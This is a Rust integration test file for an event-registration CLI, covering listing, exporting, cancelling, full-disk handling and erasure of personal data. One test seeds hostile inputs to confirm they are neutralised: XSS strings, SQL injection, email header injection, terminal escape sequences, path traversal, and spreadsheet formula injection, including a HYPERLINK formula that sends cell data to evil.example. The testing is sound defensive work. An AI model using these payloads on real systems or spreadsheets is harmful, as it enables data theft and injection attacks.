//! `karibu registrations …` beside a running server, as an operator meets it.

#![expect(clippy::unwrap_used, reason = "a test fails by a panic, its helpers too")]

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use calamine::Reader;
use jiff::Timestamp;
use registration::event::WhenFull;
use registration::ids::{RegistrationId, SubmissionId};
use registration::language::Language;
use registration::ports::{Events, Registrations};
use registration::reference::Reference;
use registration::stored::{Columns, NewRegistration, uuid_v7};
use serde_json::{Value, json};
use store_sqlite::SqliteStore;
use testkit::letters::{letters, wait_for_letters};
use testkit::postgres::{Database, database};
use testkit::registrant::{Attached, Filled, Registrant, location};
use testkit::serve::Served;

const KARIBU: &str = env!("CARGO_BIN_EXE_karibu");

async fn told(served: &Served, arguments: &[&str]) -> String {
    let (code, out, complaint) = served.command(arguments).await;
    assert_eq!((code, complaint.as_str()), (0, ""), "{arguments:?}");
    out
}

async fn refused(served: &Served, arguments: &[&str], expected: i32) -> String {
    let (code, out, complaint) = served.command(arguments).await;
    assert_eq!((code, out.as_str()), (expected, ""), "{arguments:?}: {complaint}");
    assert_eq!(complaint.lines().count(), 1, "{complaint}");
    complaint
}

async fn objects(served: &Served, arguments: &[&str]) -> Vec<Value> {
    serde_json::from_str(&told(served, arguments).await).unwrap()
}

async fn on_postgres() -> (Served, Database) {
    let database = database().await;
    let served = Served::start(KARIBU, &[("DATABASE_URL", database.url())]).await;
    (served, database)
}

/// Somebody registers by the form; gives the reference.
async fn register(served: &Served, filled: &Filled, file: Option<&Attached>) -> String {
    Registrant::new(served.client(), &served.url(), "connect").register(filled, file).await;
    let search = ["registrations", "list", "connect", "--json", "--search", filled.get("email")];
    objects(served, &search).await[0]["reference"].as_str().unwrap().to_owned()
}

/// Puts registrations with these last names into the database, as an older version or somebody's script may have.
async fn put(served: &Served, names: &[String]) {
    let store = SqliteStore::open(&served.data().join("karibu.db"), 2).await.unwrap();
    let event = store.by_slug("connect").await.unwrap().unwrap().id;
    let at: Timestamp = "2026-11-04T08:31:02.5Z".parse().unwrap();
    for (n, name) in (1_u64..).zip(names) {
        let mut random = [0; 10];
        random[2..].copy_from_slice(&n.to_be_bytes());
        let id = uuid_v7(at, random);
        store
            .register(&NewRegistration {
                id: RegistrationId(id),
                event,
                form_version: 1,
                submission: SubmissionId(id),
                content_digest: [0; 32],
                reference: Reference::from_bits(n),
                answers: json!({
                    "first_name": name, "last_name": name, "email": format!("{n}@example.org"), "phone": "+254712345678",
                    "organization": name, "comments": name, "category": "student", "attendance": "onsite", "country": "KE"
                }),
                columns: Columns {
                    name: name.clone(),
                    email: format!("{n}@example.org"),
                    organization: Some(name.clone()),
                    search_text: name.to_lowercase(),
                    ..Columns::default()
                },
                language: Language::En,
                request_id: "request".to_owned(),
                attachments: Vec::new(),
                places: Vec::new(),
                when_full: WhenFull::Waiting,
                notifications: Vec::new(),
                if_duplicate: None,
                summary: Vec::new(),
                at,
            })
            .await
            .unwrap();
    }
    store.close().await;
}

fn csv_rows(bytes: &[u8]) -> Vec<std::collections::HashMap<String, String>> {
    csv::Reader::from_reader(bytes).deserialize().map(Result::unwrap).collect()
}

fn xlsx_rows(path: &Path) -> Vec<std::collections::HashMap<String, String>> {
    let mut workbook: calamine::Xlsx<_> = calamine::open_workbook(path).unwrap();
    assert!(workbook.worksheet_formula("Registrations").unwrap().is_empty());
    let range = workbook.worksheet_range("Registrations").unwrap();
    let mut rows = range.rows().map(|row| row.iter().map(ToString::to_string).collect::<Vec<_>>());
    let header = rows.next().unwrap();
    rows.map(|row| header.iter().cloned().zip(row).collect()).collect()
}

/// What must never reach a terminal raw.
fn acts_on_a_terminal(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[tokio::test]
async fn a_registration_is_listed_shown_and_exported() {
    let served = Served::start(KARIBU, &[]).await;
    let list = ["registrations", "list", "connect"];
    assert_eq!(objects(&served, &[&list[..], &["--json"]].concat()).await, Vec::<Value>::new());
    let person = Filled::sample("Mwangi").with("comments", "Vegetarian\nand late");
    let reference = register(&served, &person, Some(&Attached::pdf("visa.pdf", "x"))).await;
    let twin = register(&served, &Filled::sample("Mwangi"), None).await;
    register(&served, &Filled::sample("Otieno").with("organization", "TERNET"), None).await;

    let table = told(&served, &list).await;
    assert!(table.starts_with("REFERENCE") && table.lines().count() == 4, "{table}");
    assert!(table.contains(&reference) && table.contains("Wanjiru Mwangi") && table.contains("KENET"), "{table}");
    let found = objects(&served, &[&list[..], &["--json", "--search", "ternet"]].concat()).await;
    assert_eq!((found.len(), &found[0]["organization"]), (1, &json!("TERNET")));
    assert_eq!(objects(&served, &[&list[..], &["--json", "--status", "waiting"]].concat()).await.len(), 0);

    // As it is read out on the telephone.
    let spoken = reference.to_lowercase().replace('-', " ").replace('0', "o");
    let shown = told(&served, &["registrations", "show", "connect", &spoken]).await;
    for part in [&reference, "Vegetarian\n      and late", "visa.pdf", "registered", &twin, "confirmed", "Kenya"] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
    wait_for_letters(&served.mails(), 6).await;
    let shown = &objects(&served, &["registrations", "show", "connect", &reference, "--json"]).await[0];
    assert_eq!(shown["same_person"], json!([twin]));
    assert_eq!(shown["answers"]["phone"], "+254712345678");
    assert_eq!(shown["files"][0]["name"], "visa.pdf");
    assert_eq!(shown["history"][0]["action"], "registered");
    let mails = shown["mails"].as_array().unwrap();
    assert_eq!(mails.len(), 2, "{mails:?}");
    assert!(mails.iter().any(|mail| mail["recipient"] == person.get("email") && mail["kind"] == "confirmation"));
    let text = told(&served, &["registrations", "show", "connect", &reference]).await;
    for mail in mails {
        let id = mail["id"].as_str().unwrap();
        assert!(text.lines().any(|line| line.starts_with(id)), "{id} is what `notifications resend` takes: {text}");
    }

    let csv = told(&served, &["registrations", "export", "connect"]).await;
    assert!(csv.starts_with("reference,status,created_at,"), "{csv}");
    let row = &csv_rows(csv.as_bytes())[0];
    assert_eq!((row["phone"].as_str(), row["attachment"].as_str()), ("+254712345678", "visa.pdf"));
    assert_eq!((row["comments"].as_str(), row["country"].as_str()), ("Vegetarian\nand late", "KE"));
    let labelled = told(&served, &["registrations", "export", "connect", "--labels", "--bom", "yes"]).await;
    assert!(labelled.starts_with("\u{feff}Reference,Status,Registered,") && labelled.contains("Kenya"), "{labelled}");
    let file = served.data().join("../list.xlsx");
    let said = told(&served, &["registrations", "export", "connect", "--output", file.to_str().unwrap()]).await;
    assert!(said.starts_with("3 registrations are in "), "{said}");
    assert_eq!(xlsx_rows(&file)[0]["phone"], "+254712345678");

    told(&served, &["registrations", "cancel", "connect", &twin]).await;
    let export = ["registrations", "export", "connect", "--status"];
    let cancelled = told(&served, &[&export[..], &["cancelled"]].concat()).await;
    assert_eq!(csv_rows(cancelled.as_bytes()).iter().map(|row| row["reference"].clone()).collect::<Vec<_>>(), [twin]);
    assert_eq!(csv_rows(told(&served, &[&export[..], &["confirmed"]].concat()).await.as_bytes()).len(), 2);

    let stats = told(&served, &["event", "stats", "connect"]).await;
    assert!(stats.contains("attachments are deleted on ") && stats.contains("answers are erased on "), "{stats}");
    let kept = objects(&served, &["event", "stats", "connect", "--json"]).await[0]["kept"].clone();
    assert_eq!((&kept["registrations"], &kept["erased"], &kept["attachments"]), (&json!(3), &json!(0), &json!(1)));
}

#[tokio::test]
async fn hostile_texts_act_on_no_terminal_and_are_exported_as_they_are() {
    let served = Served::start(KARIBU, &[]).await;
    let texts: Vec<String> = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "{x} {{ x }} ${x} %s",
        "[a](http://evil.example)",
        "Robert'); drop table registration;--",
        "a\r\nBcc: victim@example.org",
        "\u{1b}[31mred\u{1b}]0;title\u{7}",
        "\u{9b}31m and \u{7f}",
        "\u{202e}desrever\u{2066}",
        "\u{200f}\u{61c}mark",
        "=1+1",
        "+254712345678",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\u{ff1d}1+1",
        "\u{ff0b}1",
        "\u{ff0d}1",
        "\u{ff20}x",
        "=HYPERLINK(\"http://evil.example?x=\"&A1)",
        "a,b;c\t\"d\"",
        "../../etc/passwd",
        "_x0041_",
        "Ñandú 😀 王",
    ]
    .map(str::to_owned)
    .into_iter()
    .chain(["Lopadotemachoselachogaleokranioleipsanodrim".repeat(7)])
    .collect();
    put(&served, &texts).await;

    let list = told(&served, &["registrations", "list", "connect"]).await;
    assert_eq!(list.lines().count(), texts.len() + 1, "{list}");
    assert!(list.contains(texts.last().unwrap()) && !list.contains('…'), "nothing is cut in a pipe: {list}");
    let listed = told(&served, &["registrations", "list", "connect", "--json"]).await;
    for output in [&list, &listed] {
        assert!(!output.contains(acts_on_a_terminal), "{output:?}");
    }
    let listed: Vec<Value> = serde_json::from_str(&listed).unwrap();
    for (row, text) in listed.iter().zip(&texts) {
        assert_eq!(row["name"], *text);
    }
    for row in &listed {
        let reference = row["reference"].as_str().unwrap();
        for arguments in [
            &["registrations", "show", "connect", reference][..],
            &["registrations", "show", "connect", reference, "--json"],
        ] {
            let shown = told(&served, arguments).await;
            assert!(!shown.contains(acts_on_a_terminal), "{shown:?}");
        }
    }

    let csv = served.data().join("../hostile.csv");
    told(&served, &["registrations", "export", "connect", "--output", csv.to_str().unwrap()]).await;
    let bytes = std::fs::read(&csv).unwrap();
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap();
    for (row, text) in csv_rows(bytes).iter().zip(&texts) {
        let cell = &row["last_name"];
        assert_eq!(cell.strip_prefix('\'').unwrap_or(cell), text);
        let begins = ['=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];
        assert!(!cell.starts_with(begins), "{cell:?}");
        assert_eq!(row["phone"], "+254712345678");
        assert_eq!(row["created_at"], "2026-11-04 10:31:02", "in the zone of the event");
    }
    let xlsx = served.data().join("../hostile.xlsx");
    told(&served, &["registrations", "export", "connect", "--format", "xlsx", "--output", xlsx.to_str().unwrap()])
        .await;
    for (row, text) in xlsx_rows(&xlsx).iter().zip(&texts) {
        assert_eq!(row["last_name"], *text);
    }
    for (row, text) in listed.iter().zip(&texts) {
        let reference = row["reference"].as_str().unwrap();
        for arguments in [
            &["registrations", "cancel", "connect", reference][..],
            &["registrations", "erase", "connect", reference, "--yes"],
        ] {
            let said = told(&served, arguments).await;
            assert!(said.contains(reference) && !said.contains(text.as_str()), "{said}");
        }
    }
    for text in ["\u{1b}[31m", "\u{202e}", "a\u{9b}b"] {
        for arguments in [["registrations", "list", text], ["registrations", "show", text]] {
            let (code, _, complaint) = served.command(&arguments).await;
            assert!(code > 0 && !complaint.contains(acts_on_a_terminal), "{complaint:?}");
        }
    }
}

/// Runs a line of shell with `karibu` being the binary; gives the exit code and what was complained.
fn shell(served: &Served, line: &str) -> (i32, String) {
    let mut command = Command::new("sh");
    for (name, _) in std::env::vars().filter(|(name, _)| name.starts_with("KARIBU_")) {
        command.env_remove(name);
    }
    let output = command
        .args(["-c", line])
        .current_dir(served.data().join(".."))
        .env("KARIBU_DATA_DIR", served.data())
        .env("karibu", KARIBU)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    (output.status.code().unwrap_or(-1), String::from_utf8(output.stderr).unwrap())
}

#[tokio::test]
async fn an_export_to_a_full_disk_leaves_no_file_and_the_old_one_as_it_was() {
    let served = Served::start(KARIBU, &[]).await;
    let folder = served.data().join("../out");
    std::fs::create_dir(&folder).unwrap();
    put(&served, &(0..600).map(|n| format!("{n} {}", "lorem ipsum ".repeat(80))).collect::<Vec<_>>()).await;
    for name in ["list.csv", "list.xlsx"] {
        let target = folder.join(name);
        std::fs::write(&target, "before").unwrap();
        // A limit on the size of files stands for the disk; the signal that comes with it is not for us.
        let line =
            format!("trap '' XFSZ; ulimit -f 64; exec \"$karibu\" registrations export connect --output out/{name}");
        let (code, complaint) = shell(&served, &line);
        assert_eq!(code, 1, "{complaint}");
        assert!(complaint.contains("does not fit") && complaint.lines().count() == 1, "{name}: {complaint}");
        assert_eq!(std::fs::read_to_string(&target).unwrap(), "before");
        let left: Vec<PathBuf> = std::fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap().path()).collect();
        assert_eq!(left, std::slice::from_ref(&target));
        std::fs::remove_file(target).unwrap();
    }
    for line in [
        "\"$karibu\" registrations export connect > /dev/full",
        "\"$karibu\" registrations export connect --format csv --output /dev/full",
        "\"$karibu\" registrations list connect > /dev/full",
        "\"$karibu\" registrations list connect --json > /dev/full",
    ] {
        let (code, complaint) = shell(&served, line);
        assert_eq!(code, 1, "{line}: {complaint}");
        assert!(complaint.contains("No space left") && complaint.lines().count() == 1, "{line}: {complaint}");
    }
    // Whoever reads only the head is told nothing.
    for what in ["list connect", "list connect --json", "export connect"] {
        let line = format!("{{ \"$karibu\" registrations {what}; echo $? >&2; }} | head -n 1 > /dev/null");
        assert_eq!(shell(&served, &line).1, "0\n", "{what}");
    }
}

#[tokio::test]
async fn mistakes_are_told_in_a_sentence() {
    let served = Served::start(KARIBU, &[]).await;
    let reference = register(&served, &Filled::sample("Mwangi"), None).await;
    let registrations = |more: &[&'static str]| [&["registrations"], more].concat();
    for command in ["list", "show", "export", "cancel", "erase"] {
        let mut arguments = registrations(&[command, "conect"]);
        if !matches!(command, "list" | "export") {
            arguments.push("KC-0000-0000");
        }
        assert!(refused(&served, &arguments, 1).await.contains("did you mean `connect`?"));
    }
    for command in ["show", "cancel", "erase"] {
        let complaint = refused(&served, &registrations(&[command, "connect", "KC-0000-0000"]), 1).await;
        assert!(complaint.contains("no registration KC-0000-0000"), "{complaint}");
        let complaint = refused(&served, &registrations(&[command, "connect", "KC-0000"]), 2).await;
        assert!(complaint.contains("they look like KC-7F3K-2M9Q"), "{complaint}");
    }
    let complaint = refused(&served, &["registrations", "erase", "connect", &reference], 2).await;
    assert!(complaint.contains("--yes"), "{complaint}");
    for (more, expected) in [
        (&["--format", "xlsx"][..], "name a file with --output"),
        (&["--output", "x.xlsx", "--bom", "no"], "--bom is for csv"),
        (&["--format", "ods"], "ods"),
        (&["--output", "list.ods"], "let it end with .csv or .xlsx"),
        (&["--output", "list"], "or say --format"),
        (&["--format", "csv", "--output", "list.xlsx"], "--format csv makes a file that ends with .csv"),
        (&["--format", "xlsx", "--output", "list.csv"], "--format xlsx makes a file that ends with .xlsx"),
    ] {
        let complaint = refused(&served, &[&["registrations", "export", "connect"], more].concat(), 2).await;
        assert!(complaint.contains(expected), "{complaint}");
    }
    for output in ["/nowhere/list.csv", "/tmp"] {
        let export = ["registrations", "export", "connect", "--format", "csv", "--output", output];
        let complaint = refused(&served, &export, 1).await;
        assert!(complaint.contains(output), "{complaint}");
    }
}

async fn cancelled(served: &Served) {
    let person = Filled::sample("Mwangi");
    let reference = register(served, &person, None).await;
    wait_for_letters(&served.mails(), 2).await;
    let cancel = ["registrations", "cancel", "connect", &reference, "--tell"];
    let expected = format!("{reference} is cancelled; 2 organisers are told; the registrant is told.");
    assert!(told(served, &cancel).await.starts_with(&expected));
    let letters = wait_for_letters(&served.mails(), 4).await;
    assert_eq!(letters.iter().filter(|letter| letter.to == person.get("email")).count(), 2);
    let row = &objects(served, &["registrations", "list", "connect", "--json"]).await[0];
    assert_eq!(row["status"], "cancelled");
    assert!(refused(served, &cancel, 1).await.contains("is cancelled already"));
    let stats = &objects(served, &["event", "stats", "connect", "--json"]).await[0];
    assert_eq!((&stats["registrations"], &stats["places"][0]["taken"]), (&json!(0), &json!(0)));
}

#[tokio::test]
async fn a_cancelled_registration_gives_its_place_back_and_is_told() {
    cancelled(&Served::start(KARIBU, &[]).await).await;
    let (served, _database) = on_postgres().await;
    cancelled(&served).await;
}

/// Somebody's address got enough for a day: the page says so, `show` does, and what organisers send goes nevertheless.
async fn not_flooded(served: &Served) {
    let person = Filled::sample("Mwangi");
    let mut pages = Vec::new();
    for _ in 0..4 {
        let registrant = Registrant::new(served.client(), &served.url(), "connect");
        let answer = registrant.send(&registrant.open().await, &person, None).await;
        let page = location(&answer).unwrap();
        pages.push(served.client().get(format!("{}{page}", served.url())).send().await.unwrap().text().await.unwrap());
        wait_for_letters(&served.mails(), 4.min(pages.len()) + pages.len().min(3)).await;
    }
    assert!(pages[2].contains("A confirmation is on its way"), "{}", pages[2]);
    assert!(pages[3].contains("no confirmation is sent there") && !pages[3].contains("on its way"), "{}", pages[3]);
    let listed = objects(served, &["registrations", "list", "connect", "--json"]).await;
    let reference = listed[3]["reference"].as_str().unwrap();
    let told_of = told(served, &["registrations", "show", "connect", reference]).await;
    let resend = format!("karibu registrations resend connect {reference}");
    assert!(told_of.contains("withheld") && told_of.contains(&resend), "{told_of}");
    told(served, &["registrations", "resend", "connect", reference]).await;
    told(served, &["registrations", "cancel", "connect", reference, "--tell"]).await;
    let letters = wait_for_letters(&served.mails(), 10).await;
    let to_them: Vec<_> = letters.iter().filter(|letter| letter.to == person.get("email")).collect();
    assert_eq!(to_them.len(), 5, "three of forms, and two that organisers sent");
    assert_eq!(to_them.iter().filter(|letter| letter.text.contains(reference)).count(), 2);
    assert!(refused(served, &["registrations", "resend", "connect", "KC-0000-0000"], 1).await.contains("KC-0000-0000"));
}

#[tokio::test]
async fn an_address_that_got_enough_is_told_of_on_the_page_and_organisers_can_send() {
    not_flooded(&Served::start(KARIBU, &[]).await).await;
    let (served, _database) = on_postgres().await;
    not_flooded(&served).await;
}

#[tokio::test]
async fn where_nobody_is_told_nobody_is_said_to_be() {
    // Mails are real here, and the sample's organisers are not.
    let settings = [("SMTP_URL", "smtp://127.0.0.1:1?tls=none"), ("MAIL_FROM", "register@example.org")];
    let served = Served::start(KARIBU, &settings).await;
    let (one, other) = (Filled::sample("Mwangi"), Filled::sample("Otieno"));
    let (one, other) = (register(&served, &one, None).await, register(&served, &other, None).await);
    let nobody = "no organiser is told, for none gets mails of this event";
    let said = told(&served, &["registrations", "cancel", "connect", &one]).await;
    let expected = format!("{one} is cancelled; {nobody}; the registrant is not told (`--tell` does that).\n");
    assert_eq!(said, expected);
    let said = told(&served, &["registrations", "erase", "connect", &other, "--yes"]).await;
    let expected = format!(
        "{other} is erased: answers, files and mails are gone, the counts and its place stay; {nobody}; the registrant is not told.\n"
    );
    assert_eq!(said, expected);
    let own = ["--organizers", "me@example.org"];
    let third = register(&served, &Filled::sample("Zawadi"), None).await;
    let said = told(&served, &[&["registrations", "cancel", "connect", &third][..], &own].concat()).await;
    assert!(said.contains("; 1 organiser is told; the registrant is not told"), "{said}");
}

/// Every file under a folder that holds one of these.
fn traces(folder: &Path, needles: &[String]) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            found.extend(traces(&path, needles));
            continue;
        }
        let content = std::fs::read(&path).unwrap();
        let held =
            needles.iter().filter(|needle| content.windows(needle.len()).any(|bytes| bytes == needle.as_bytes()));
        found.extend(held.map(|needle| format!("{needle} in {}", path.display())));
    }
    found
}

async fn erased(served: &Served) -> Vec<String> {
    let person = Filled::sample("Zawadi")
        .with("organization", "Unheard-of Institute")
        .with("phone", "+254 711 998 877")
        .with("comments", "allergic to groundnuts");
    let needles: Vec<String> = ["Zawadi", "zawadi", "Unheard-of", "+254711998877", "groundnuts", "secret-in-the-file"]
        .map(str::to_owned)
        .into_iter()
        .chain([person.get("email").to_owned()])
        .collect();
    let reference = register(served, &person, Some(&Attached::pdf("zawadi.pdf", "secret-in-the-file"))).await;
    let large = Filled::sample("Otieno").with("organization", "TERNET");
    register(served, &large, Some(&Attached::large_pdf("large.pdf", 600_000))).await;
    wait_for_letters(&served.mails(), 4).await;
    assert!(!traces(&served.data(), &needles[..1]).is_empty(), "the search finds what is there");

    let erase = ["registrations", "erase", "connect", &reference, "--yes"];
    let said = told(served, &erase).await;
    assert!(said.contains(&format!("{reference} is erased")), "{said}");
    assert_eq!(traces(&served.data(), &needles), Vec::<String>::new());
    assert!(refused(served, &erase, 1).await.contains("was erased already, on "));
    // The other's confirmation, and one that tells of the erasure. The organiser's mail about the other named the first in its
    // table; sent again, it does not.
    wait_for_letters(&served.mails(), 2).await;
    assert_eq!(letters(&served.mails()).len(), 2);
    let id = said.rsplit("anew: ").next().unwrap().trim();
    told(served, &["notifications", "resend", id]).await;
    wait_for_letters(&served.mails(), 3).await;
    assert_eq!(traces(&served.data(), &needles), Vec::<String>::new());
    assert!(needles.iter().all(|needle| !served.log().contains(needle)));

    let shown = told(served, &["registrations", "show", "connect", &reference]).await;
    assert!(shown.contains("erased 2") && !needles.iter().any(|needle| shown.contains(needle)), "{shown}");
    let list = told(served, &["registrations", "list", "connect"]).await;
    assert!(list.contains("(erased)"), "{list}");
    assert_eq!(csv_rows(told(served, &["registrations", "export", "connect"]).await.as_bytes())[0]["email"], "");
    let stats = &objects(served, &["event", "stats", "connect", "--json"]).await[0];
    assert_eq!((&stats["registrations"], &stats["kept"]["erased"]), (&json!(2), &json!(1)));
    let cancel = ["registrations", "cancel", "connect", &reference];
    assert!(refused(served, &cancel, 1).await.contains("is erased"));
    needles
}

#[tokio::test]
async fn nothing_of_an_erased_person_is_left_in_the_data_folder_while_it_serves() {
    let mut served = Served::start(KARIBU, &[]).await;
    let needles = erased(&served).await;
    served.terminate().await;
    assert_eq!(traces(&served.data(), &needles), Vec::<String>::new());
}

#[tokio::test]
async fn a_person_is_erased_on_postgres_too() {
    let (served, _database) = on_postgres().await;
    // The data folder has the mails; the traces are looked for there.
    erased(&served).await;
}
